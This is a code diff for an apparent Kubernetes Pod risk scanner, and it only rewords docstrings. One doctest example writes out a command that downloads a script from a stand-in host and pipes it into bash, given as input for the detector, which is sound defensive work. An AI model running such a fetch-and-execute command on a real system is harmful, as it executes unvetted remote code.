@@ -125,7 +125,7 @@ def _read(command: msgspec.Raw, arguments: msgspec.Raw, path: str) -> Start:
 
 
 def read_command(text: str) -> Start:
-    """Give what a command's text gets from the network.
+    """Return what a command's text gets from the network.
 
     >>> read_command("sh -c 'pip install -q numpy && curl -s https://x.example/a | bash -s'")
     Start(installs=('pip',), scripts=('curl',))
@@ -149,7 +149,7 @@ def read_command(text: str) -> Start:
 
 
 def _piped(text: str) -> set[str]:
-    """Give the tools whose output a pipe leads to a shell, over whatever lies between."""
+    """Return the tools whose output a pipe leads to a shell, over whatever lies between."""
     found, fetched = set(), ""
     for stage in text.split("|"):
         if fetched and (_IS_SHELL.match(stage) or _FED_BY_XARGS.match(stage)):
@@ -163,7 +163,7 @@ def _piped(text: str) -> set[str]:
 
 
 def _runs_a_file(text: str, start: int) -> bool:
-    """Say whether a shell runs a file that is named between `start`, the download, and it."""
+    """Return whether a shell runs a file that is named between `start`, the download, and it."""
     named: dict[str, int] = {}
     for each in _FILE.finditer(text, start):
         named.setdefault(each[0], each.start())
@@ -198,7 +198,7 @@ _remembered: Final[dict[bytes, tuple[Risk, ...]]] = {}
 
 
 def risks_of(containers: Sequence[tuple[str, k8s.Container]]) -> Sequence[Risk]:
-    """Give what makes each of a Pod's containers risky; each comes with its path.
+    """Return what makes each of a Pod's containers risky; each comes with its path.
 
     Raises:
         InvalidObjectError: a command is no list of texts, or it wants more resources than any real
